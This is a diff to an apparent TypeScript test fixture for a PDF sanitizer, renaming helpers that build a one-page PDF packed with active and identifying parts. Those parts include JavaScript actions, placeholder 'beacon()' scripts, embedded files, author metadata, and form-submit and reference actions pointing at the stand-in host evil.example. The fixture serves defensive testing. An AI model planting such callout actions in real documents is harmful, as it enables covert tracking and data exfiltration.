@@ -1,4 +1,4 @@
-import { pdfOf, streamOf } from './pdf_objects.ts'
+import { pdfFromObjects, pdfStream } from './pdf_objects.ts'
 
 /** Texts that occur only in parts that must be removed. */
 export const ACTIVE_TEXTS = ['evil.example', 'beacon()', 'secret author', 'xmp:CreatorTool', 'carried file']
@@ -21,19 +21,19 @@ const OBJECTS: Record<number, string | Buffer> = {
   3: `<</Type/Page/Parent 2 0 R/Contents[4 0 R]/AA<</O${JS}/C${JS}>>/Metadata 29 0 R/PieceInfo<</X<</LastModified(D:2020)>>>>
     /LastModified(D:2020)/Thumb 9 0 R/StructParents 0/Tabs/S/B[]/AF[${FILE}]/PresSteps<</NA${JS}>>/Trans<</S/Fly>>/Dur 1
     /Annots[${Array.from({ length: 12 }, (_, i) => `${i + 10} 0 R`).join(' ')}]>>`,
-  4: streamOf(
+  4: pdfStream(
     '/F(http://evil.example/c)/FFilter/FlateDecode/Metadata 29 0 R',
     `${text('drawn by the page')} /X1 Do /X2 Do /X3 Do`,
   ),
   5: `<</Font<</F1 6 0 R>>/XObject<</X1 7 0 R/X2 8 0 R/X3 9 0 R>>/Properties<</P1 32 0 R/P2<</Type/OCMD/OCGs 32 0 R>>>>>>`,
   6: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/PieceInfo<<>>/Metadata 29 0 R>>',
-  7: streamOf(
+  7: pdfStream(
     `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</Font<</F1 6 0 R>>/XObject<</Self 7 0 R>>>>/Metadata 29 0 R/PieceInfo<<>>
      /OPI<<>>/OC 32 0 R/StructParent 1/LastModified(D:2020)/Ref<</F(http://evil.example/r)/Page 0>>/AF[${FILE}]/PS 8 0 R`,
     text('drawn in a form').replace('100', '150'),
   ),
-  8: streamOf('/Type/XObject/Subtype/PS', '(beacon()) run'),
-  9: streamOf(
+  8: pdfStream('/Type/XObject/Subtype/PS', '(beacon()) run'),
+  9: pdfStream(
     `/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Metadata 29 0 R/OPI<<>>
      /Alternates[<</Image 9 0 R/DefaultForPrinting true>>]/OC 32 0 R/ID(x)/StructParent 1`,
     'x',
@@ -55,27 +55,27 @@ const OBJECTS: Record<number, string | Buffer> = {
     'Widget',
     `/FT/Tx/T(f)/V(x)/A<</S/SubmitForm/F(http://evil.example/s)>>/AA<</K${JS}/F${JS}>>/AP<</N 21 0 R>>`,
   ),
-  21: streamOf(
+  21: pdfStream(
     `/Subtype/Form/BBox[0 0 200 200]/Metadata 29 0 R/Resources<</Font<</F1 6 0 R>>>>`,
     text('typed into a field'),
   ),
-  22: streamOf('/Subtype/Form/BBox[0 0 9 9]', '0 0 9 9 re f'),
-  23: streamOf('/Subtype/Form/BBox[0 0 200 200]/Resources<</Font<</F1 6 0 R>>>>', text('hidden note')),
+  22: pdfStream('/Subtype/Form/BBox[0 0 9 9]', '0 0 9 9 re f'),
+  23: pdfStream('/Subtype/Form/BBox[0 0 200 200]/Resources<</Font<</F1 6 0 R>>>>', text('hidden note')),
   24: '<</Producer(secret author)/Author(secret author)>>',
   25: `[${['ResetForm', 'Named', 'GoTo', 'Thread', 'Hide', 'SetOCGState'].map((s) => `<</S/${s}>>`).join('')}]`,
-  29: streamOf('/Type/Metadata/Subtype/XML', '<x:xmpmeta xmp:CreatorTool="secret author"/>'),
-  30: streamOf('/Type/EmbeddedFile', 'carried file'),
-  31: streamOf('', '<xdp><event>beacon()</event></xdp>'),
+  29: pdfStream('/Type/Metadata/Subtype/XML', '<x:xmpmeta xmp:CreatorTool="secret author"/>'),
+  30: pdfStream('/Type/EmbeddedFile', 'carried file'),
+  31: pdfStream('', '<xdp><event>beacon()</event></xdp>'),
   32: `<</Type/OCG/Name(l)/Usage<</View<</ViewState/ON>>>>>>`,
   33: `<</Type/StructTreeRoot/K<</S/Document/AF[${FILE}]>>>>`,
   34: `<</Title(o)/A${URI}>>`,
-  35: streamOf('/Type/3D/Subtype/U3D/OnInstantiate 36 0 R'),
-  36: streamOf('', 'beacon()'),
+  35: pdfStream('/Type/3D/Subtype/U3D/OnInstantiate 36 0 R'),
+  36: pdfStream('', 'beacon()'),
 }
 
 /** A PDF of one page with every active and identifying part. */
 export function activePdf(): Buffer {
   const most = Math.max(...Object.keys(OBJECTS).map(Number))
   const objects = Array.from({ length: most }, (_, i) => OBJECTS[i + 1] ?? 'null')
-  return pdfOf(...objects)
+  return pdfFromObjects(...objects)
 }
